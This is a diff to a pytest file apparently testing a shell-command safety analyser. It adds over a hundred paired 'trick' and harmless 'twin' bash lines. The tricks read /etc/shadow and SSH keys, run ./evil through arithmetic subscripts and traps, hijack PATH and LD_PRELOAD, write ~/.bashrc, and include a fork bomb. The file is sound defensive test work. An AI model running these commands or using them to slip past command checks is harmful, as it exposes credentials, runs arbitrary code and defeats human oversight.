@@ -31,7 +31,7 @@ TRICKS = [
     ("find -fprint", "find . -fprint /etc/x", "find . -print"),
     ("find -delete", "find . -delete", "find . -newer README.md"),
     ("find -okdir", "find . -okdir rm {} ;", "find . -type f"),
-    ("GHSA-g8r9-g2v8-jv6f: ${x@P}", 'echo "${x@P}"', 'echo "x@P"'),
+    ("GHSA-g8r9-g2v8-jv6f: ${x@P}", 'echo "${REPLY@P}"', 'echo "x@P"'),
     ("${x:=v}", "echo ${x:=$(rm y)}", "echo x:=v"),
     ("${!x}", "echo ${!x}", "echo '${!x}'"),
     ("nested substitution", 'cat "$(cat "$(echo x)")"', "cat x"),
@@ -72,19 +72,19 @@ TRICKS = [
     ("man -P", "man -P ./evil ls", "ls man"),
     ("xargs", "echo x | xargs -I{} sh -c {}", "echo x | grep x"),
     ("sh from a pipe", "echo aWQ= | base64 -d | sh", "echo aWQ= | base64 -d"),
-    ("python -c", "python3 -P -c 'import os'", "python3 --version"),
+    ("python -c", "python3 -P -c 'import os; os.system(\"id\")'", "python3 --version"),
     ("CVE-2026-53820: timeout wrapper", "timeout 5 ./evil", "timeout 5 ls"),
     ("env -S", "env -S './evil x'", "env LANG=C ls"),
     ("env -i", "env -i ls", "env LC_ALL=C ls"),
     ("the shell's own script", "bash x.sh", "bash -c 'ls -la'"),
-    ("bash -c with a variable", 'bash -c "$x"', "bash -c 'cat README.md'"),
+    ("bash -c with a variable", 'bash -c "$REPLY"', "bash -c 'cat README.md'"),
     ("bash -i", "bash -ic ls", "bash -ec ls"),
     ("eval", 'eval "$(cat x)"', "eval ls -la"),
     ("unknown flag", "cat --frobnicate x", "cat -n x"),
     ("CR", "ls\r\nrm x", "ls\necho x"),
     ("line continuation", "l\\\ns", "ls"),
     ("glob as a program", "/bin/r? x", "ls r?"),
-    ("a flag from a variable", "rg $x y", "ls $x"),
+    ("a flag from a variable", "rg $REPLY y", "ls $REPLY"),
     ("a flag from a substitution", "sort $(cat x) y", "cat -- $(ls) x"),
     ("coproc", "coproc rm x", "echo coproc"),
     ("a workspace program", "./ls", "/bin/ls"),
@@ -94,13 +94,121 @@ TRICKS = [
 ]
 
 
+# What the interpreter of the shell could be talked into: state that changes on a way that was not followed.
+TURNS = [
+    ("assigned, then used", "x=/etc/shadow; cat $x", "x=README.md; cat $x"),
+    ("a prefix is a variable in eval", "x=README.md; x=/etc/shadow eval 'cat $x'", "x=README.md eval 'cat $x'"),
+    ("a prefix is a variable in a function", "f() { cat $x; }; x=README.md; x=/etc/shadow f", "f() { cat $x; }; x=README.md f"),
+    ("a prefix is exported to a shell", "LANG=/etc/shadow bash -c 'cat $LANG'", "LANG=C bash -c 'cat README.md'"),
+    ("env gives a variable", "env LANG=/etc/shadow bash -c 'cat $LANG'", "env LANG=C bash -c 'cat README.md'"),
+    ("env takes a variable away", "env -u LANG bash -c 'cat $LANG/etc/shadow'", "env LC_ALL=C cat README.md"),
+    ("a later prefix sees an earlier one", "x=README.md; x=/etc/shadow y=$x eval 'cat $y'", "x=README.md; y=$x eval 'cat $y'"),
+    (":= in a prefix stays", "x=; y=${x:=/etc/shadow} true; cat $x", "x=; y=${x:=README.md} true; cat $x"),
+    (":= in a word", ": ${q:=/etc/shadow}; cat $q", "q=; : ${q:=README.md}; cat $q"),
+    ("an assignment in a substitution's word", "x=ls; x=./evil y=$($x)", "x=ls; y=$($x)"),
+    ("one side of &&", "x=README.md; false && x=/etc/shadow; cat $x", "x=README.md; false && x=a; cat $x"),
+    ("one side of ||", "x=README.md; true || x=/etc/shadow; cat $x", "x=README.md; true || x=a; cat $x"),
+    ("a branch", "x=README.md; if test -f a; then x=/etc/shadow; fi; cat $x", "x=README.md; if test -f a; then x=b; fi; cat $x"),
+    ("the other branch", "x=/etc/shadow; if test -f a; then x=README.md; fi; cat $x", "x=a; if test -f a; then x=README.md; fi; cat $x"),
+    ("a case", "x=README.md; case $1 in a) x=/etc/shadow;; esac; cat $x", "x=README.md; case $1 in a) x=b;; esac; cat $x"),
+    ("a case that falls through", "case a in a) x=/etc/shadow;& b) cat $x;; esac", "case a in a) x=b;& b) cat README.md;; esac"),
+    ("the second round of a loop", "x=README.md; for i in 1 2; do cat $x; x=/etc/shadow; done", "x=README.md; for i in 1 2; do cat $x; x=a; done"),
+    ("a later round of while", "x=README.md; while read -r l; do cat $x; x=/etc/shadow; done < a", "x=README.md; while read -r l; do cat $x; x=README.md; done < a"),
+    ("a pattern may match nothing", "x=/etc/shadow; for f in *.md; do x=a; done; cat $x", "x=b; for f in *.md; do x=a; done; cat $x"),
+    ("what is not set is empty", "unset nope; $nope ./evil; cat $nope/etc/shadow", "unset nope; $nope ls; cat README.md$nope"),
+    ("break keeps what was assigned", "x=README.md; for i in 1; do x=/etc/shadow; break; x=a; done; cat $x", "x=README.md; for i in 1; do x=b; break; x=a; done; cat $x"),
+    ("continue skips", "x=/etc/shadow; for i in 1; do continue; x=a; done; cat $x", "x=b; for i in 1; do continue; x=a; done; cat $x"),
+    ("return leaves early", "f() { x=/etc/shadow; return; x=a; }; f; cat $x", "f() { x=b; return; x=a; }; f; cat $x"),
+    ("local does not reach out", "x=/etc/shadow; f() { local x=a; }; f; cat $x", "x=b; f() { local x=a; }; f; cat $x"),
+    ("local outside a function fails", "x=/etc/shadow; local x=a; cat $x", "x=b; cat $x"),
+    ("readonly refuses", "readonly x=/etc/shadow; x=a; cat $x", "x=b; x=a; cat $x"),
+    ("a redirection that fails", "x=/etc/shadow; export x=a > no/such; cat $x", "x=b; export x=a > c; cat $x"),
+    ("a redirection that fails on a group", "x=/etc/shadow; { x=a; } < nope; cat $x", "x=b; { x=a; } < nope; cat $x"),
+    ("a subshell forgets", "x=/etc/shadow; (x=a); cat $x", "x=b; (x=a); cat $x"),
+    ("a pipeline forgets", "x=/etc/shadow; x=a | true; cat $x", "x=b; x=a | true; cat $x"),
+    ("the background forgets", "x=/etc/shadow; x=a & cat $x", "x=b; x=a & cat $x"),
+    ("a function instead of a program", "ls() { cat /etc/shadow; }; ls", "ls() { cat README.md; }; ls"),
+    ("a function that may be defined", "test -f a && ls() { cat /etc/shadow; }; ls", "test -f a && ls() { cat b; }; ls"),
+    ("a function redefined in itself", "f() { f() { cat /etc/shadow; }; }; f; f", "f() { f() { cat b; }; }; f; f"),
+    ("command passes a function by", "cat() { true; }; command cat /etc/shadow", "cat() { true; }; command cat README.md"),
+    ("a function's parameters", "f() { cat \"$1\"; }; f /etc/shadow", "f() { cat \"$1\"; }; f README.md"),
+    ("all of a function's parameters", "f() { \"$@\"; }; f ./evil x", "f() { \"$@\"; }; f ls -la"),
+    ("shift", "f() { shift; cat $1; }; f a /etc/shadow", "f() { shift; cat $1; }; f a b"),
+    ("set --", "set -- /etc/shadow; cat $1", "set -- a; cat $1"),
+    ("what IFS splits", "IFS=x; y=rmx-rfx/; $y", "y='ls -la'; $y"),
+    ("IFS and a known value", "x=subQ/etc/shadow; IFS=Q; cat $x", "x=subQ/etc; cat $x"),
+    ("words of a value", "x='README.md /etc/shadow'; cat $x", "x='README.md a'; cat $x"),
+    ("a pattern in a value", "x='/etc/shad*'; cat $x", "x='a*'; cat $x"),
+    ("arithmetic runs a subscript", "x='a[$(./evil)]'; echo $((x))", "x=5; echo $((x+1))"),
+    ("arithmetic through two variables", "x=y; y='a[$(./evil)]'; ((x))", "x=y; y=3; ((x))"),
+    ("[[ -eq ]] is arithmetic", "x='a[$(./evil)]'; [[ $x -eq 1 ]]", "x=1; [[ $x -eq 1 ]]"),
+    ("[[ -eq ]] of what is read", "read -r x; [[ $x -eq 1 ]]", "read -r x; [[ $x == 1 ]]"),
+    ("a subscript of what is read", "a=(1 2); read -r i; echo ${a[i]}", "a=(1 2); i=1; echo ${a[i]}"),
+    ("a slice by what is read", "read -r n; echo ${HOME:n}", "n=2; x=abc; echo ${x:n}"),
+    ("declare -i", "declare -i n; n='a[$(./evil)]'; echo $n", "declare -i n; n=3; echo $n"),
+    ("let", "read -r x; let x+=1", "x=1; let x+=1"),
+    ("[[ -v ]] of a subscript", "[[ -v a[$(./evil)] ]]", "[[ -v a ]]"),
+    ("[ with unquoted words", "read -r x; [ $x = y ]", "read -r x; [ \"$x\" = y ]"),
+    ("a nameref", "declare -n r=x; r=/etc/shadow; cat $x", "x=README.md; cat $x"),
+    ("printf -v", "printf -v x /etc/shadow; cat $x; cat \"$x\" | ./evil", "printf -v x %s a; echo $x"),
+    ("read by a here-string", "read -r x <<< /etc/shadow; cat -- \"$x\"; rg \"$x\" .", "read -r x <<< a; echo \"$x\""),
+    ("@P", "x='$(./evil)'; echo ${x@P}", "x=a; echo ${x@Q}"),
+    ("indirect", "x=y; y=/etc/shadow; cat ${!x}", "x=y; y=README.md; cat ${!x}"),
+    ("replaced", "x=/etc/shaXdow; cat ${x/X/}", "x=README.mXd; cat ${x/X/}"),
+    ("trimmed", "x=z/etc/shadow; cat ${x#z}", "x=zREADME.md; cat ${x#z}"),
+    ("cased", "x=/ETC/SHADOW; cat ${x,,}", "x=A; cat ${x,,}"),
+    ("part of", "x=zz/etc/shadow; cat ${x:2}", "x=zzREADME.md; cat ${x:2}"),
+    ("braces", "cat /{etc/shadow,dev/null}", "cat {README.md,a}"),
+    ("a program by braces", "{./evil,x}", "{ls,-la}"),
+    ("a program by a substitution", "$(echo ./evil) x", "$(echo ls) -la"),
+    ("a path by a substitution", "cat $(echo /etc/shadow)", "cat $(echo README.md)"),
+    ("trap", "trap 'cat /etc/shadow' EXIT", "trap 'ls' EXIT"),
+    ("trap sees the last value", "x=README.md; trap 'cat $x' EXIT; x=/etc/shadow", "trap 'cat README.md' EXIT; x=a"),
+    ("a trap on every command", "trap './evil' DEBUG; ls", "trap 'ls' INT; ls"),
+    ("source", "source evil.sh", "cat evil.sh"),
+    ("a script by a here-document", "bash <<< 'cat /etc/shadow'", "cat <<< 'cat /etc/shadow'"),
+    ("a script in a group's here-document", "{ bash; } <<< 'cat /etc/shadow'", "{ cat; } <<< 'cat /etc/shadow'"),
+    ("a script by echo", "echo 'cat /etc/shadow' | bash", "echo 'cat /etc/shadow' | cat"),
+    ("exec feeds what follows", "exec < evil.sh; bash", "exec < evil.sh; cat"),
+    ("cd in a condition", "if cd /etc; then cat shadow; fi", "if cd sub; then cat a; fi"),
+    ("cd in a loop", "for d in / etc; do cd $d; done; cat shadow", "for d in a b; do cd sub; done; ls"),
+    ("cd -", "cd /etc; cd sub; cd -; cat shadow", "cd sub; cd -; ls"),
+    ("popd", "pushd /etc; pushd /; popd; cat shadow", "pushd sub; popd; ls"),
+    ("cd to a match", "for d in */; do cd $d/../../.ssh; cat id_rsa; done", "for d in */; do ls \"$d\"; done"),
+    ("PATH", "PATH=$PWD:$PATH; ls", "PATH=$PATH:/usr/sbin; ls"),
+    ("PATH by read", "read -r PATH; ls", "read -r line; ls"),
+    ("PATH in a for", "for PATH in .; do ls; done", "for p in .; do ls; done"),
+    ("LD_PRELOAD exported", "declare -x LD_PRELOAD=./x.so; ls", "declare -x MODE=fast; ls"),
+    ("a made option", "touch -- --pre=evil; rg x *", "touch -- a; rg x *"),
+    ("sh reads braces otherwise", "sh -c 'cat /{etc/shadow,x}'", "sh -c 'cat README.md'"),
+    ("sh adds no text", "sh -c 'x=/etc/shadow; x+=.md; cat $x'", "sh -c 'x=README.md; cat $x'"),
+    ("sh splits what is exported", "sh -c 'y=\"a PATH=.\"; export x=$y; ls'", "sh -c 'export x=a; ls'"),
+    ("recursion", "f() { f; }; f", "f() { ls; }; f"),
+    ("a fork bomb", "b() { b | b & }; b", "b() { ls | wc -l & }; b"),
+    ("process substitution", "cat <(./evil)", "cat <(ls)"),
+    ("a path behind process substitution", "cat <(ls)/../../../etc/shadow", "cat <(ls -la)"),
+    ("written through process substitution", "ls | tee >(./evil)", "ls | tee >(cat)"),
+    ("coproc", "coproc ./evil; ls", "ls"),
+    ("select", "select x in /etc/shadow; do cat $x; rg $x .; done < a", "select x in a; do echo $x; done < a"),
+    ("a redirection of a loop", "for i in 1; do echo x; done > ~/.bashrc", "for i in 1; do echo x; done > out"),
+    ("a redirection of a function", "f() { echo x; } > ~/.bashrc; f", "f() { echo x; } > out; f"),
+    ("getopts", "getopts a 'x[$(./evil)]'", "getopts a x"),
+    ("mapfile -C", "mapfile -C ./evil -c 1 x < a", "mapfile -t x < a"),
+    ("extended patterns", "shopt -s extglob; ls", "shopt -s nullglob; ls"),
+    ("lastpipe", "shopt -s lastpipe; x=README.md; echo /etc/shadow | read -r x; cat $x", "x=README.md; echo /etc/shadow | read -r x; cat $x"),
+    ("a default that runs", "echo ${x:-$(./evil)}", "echo ${x:-$(ls)}"),
+    ("an alternative that runs", "HOME=; echo ${HOME:+$(./evil)}", "echo ${HOME:+$(ls)}"),
+    ("an operator that changes", "x=a; ${x:+./evil}", "x=a; ${x:+ls}"),
+]  # fmt: skip
+
+
 def quiet(found) -> bool:
     """Nothing beyond what its program's harmless forms do: what a rule for readers may allow."""
     return (
         found.parsed
         and all(command.dynamic in (Dynamic.NONE, Dynamic.ARGUMENT) for command in found.commands)
         and all(command.runs_code is RunsCode.NONE for command in found.commands)
-        and all(command.origin in (Origin.SYSTEM, Origin.BUILTIN) for command in found.commands)
+        and all(command.origin in (Origin.SYSTEM, Origin.BUILTIN, Origin.FUNCTION) for command in found.commands)
         and not {Operation.DELETE, Operation.NETWORK} & found.operations
         and not any(
             path.access is not Access.LIST and not path.inside_workspace and path.resolved for path in found.paths
@@ -108,9 +216,15 @@ def quiet(found) -> bool:
     )
 
 
-@pytest.mark.parametrize(("trick", "twin"), [pytest.param(line, twin, id=name) for name, line, twin in TRICKS])
+@pytest.mark.parametrize(("trick", "twin"), [pytest.param(line, twin, id=name) for name, line, twin in TRICKS + TURNS])
 def test_a_trick_is_never_quiet_and_its_twin_is(trick, twin):
-    files = {"README.md": MadeFile(content=b"x\n"), "ls": MadeFile(content=b"x", mode=0o755)}
+    files = {
+        "README.md": MadeFile(content=b"x\n"),
+        "ls": MadeFile(content=b"x", mode=0o755),
+        "evil.sh": MadeFile(content=b"cat /etc/shadow\n"),
+        "sub/a": MadeFile(),
+        "/etc/shadow": MadeFile(),
+    }
     found = facts(trick, files)
     assert not quiet(found) or not settled(found), trick
     found = facts(twin, files)
@@ -194,9 +308,6 @@ def test_spellings_of_rm_are_one(line):
 def test_paths_that_a_line_touches(line, path, access):
     wanted = path.replace("~", HOME) if path.startswith(("~", "/")) else f"{WS}/{path}"
     found = facts(line)
-    if "$UNSET" in line:  # its value is not relied on, what it would be is still shown
-        assert any("credential" in item.covers and item.access.value == access for item in found.paths)
-        return
     assert (wanted, access) in accesses(found), found.paths
 
 
@@ -264,7 +375,8 @@ def test_limits_are_never_consent():
 )
 def test_origin_of_programs(line, files, env, origin):
     found = facts(line, files, env={"PATH": "/usr/bin:/bin", "HOME": HOME, **env})
-    assert found.commands[-1].origin is origin
+    # what a function runs is listed after the call
+    assert next(command for command in reversed(found.commands) if not command.via).origin is origin
 
 
 def test_cd_moves_only_what_it_can():
@@ -274,7 +386,7 @@ def test_cd_moves_only_what_it_can():
     assert {(f"{WS}/sub/x", "read"), (f"{WS}/x", "read")} <= accesses(facts("cd sub; cat x"))
     assert (f"{WS}/x", "read") not in accesses(facts("cd sub || exit 1; cat x"))
     assert (f"{WS}/x", "read") in accesses(facts("(cd sub); cat x"))
-    assert (None, "read") in accesses(facts("cd $x && cat y"))
+    assert (None, "read") in accesses(facts("cd $REPLY && cat y"))
     assert (None, "read") in accesses(facts("cd - && cat y"))
     linked = {"away": MadeFile(symlink="/etc")}
     assert (None, "read") in accesses(facts("cd away && cd .. && cat passwd", linked))
@@ -317,14 +429,16 @@ def test_code_by_kind():
         "make test": RunsCode.WORKSPACE,
         "python3 x.py": RunsCode.WORKSPACE,
         "python3 -m pytest": RunsCode.WORKSPACE,
-        "python3 -c 'print(1)'": RunsCode.INLINE,
-        "node -e 1": RunsCode.INLINE,
+        "python3 -c 'import os; os.system(\"id\")'": RunsCode.INLINE,
+        'node -e \'require("child_process").exec("id")\'': RunsCode.INLINE,
         "python3": RunsCode.INLINE,
         "ls": RunsCode.NONE,
         "bash -c 'ls'": RunsCode.NONE,
     }
     for line, kind in kinds.items():
-        assert facts(line).commands[-1].runs_code is kind, line
+        # what a string of it runs is listed after it
+        last = [command for command in facts(line).commands if not command.via or command.via[0] == "bash"][-1]
+        assert last.runs_code is kind, line
 
 
 def test_hosts():
@@ -339,7 +453,7 @@ def test_hosts():
     assert facts("dig $(whoami).h.example").unknown
     assert [host.host for host in facts("git clone https://g.example/x/y.git").hosts] == ["g.example"]
     assert [host.host for host in facts("scp x u@h.example:y").hosts] == ["h.example"]
-    assert facts("curl $URL").unknown
+    assert facts("curl $REPLY").unknown
     assert facts("git push").unknown
     origin = {
         ".git/HEAD": MadeFile(),
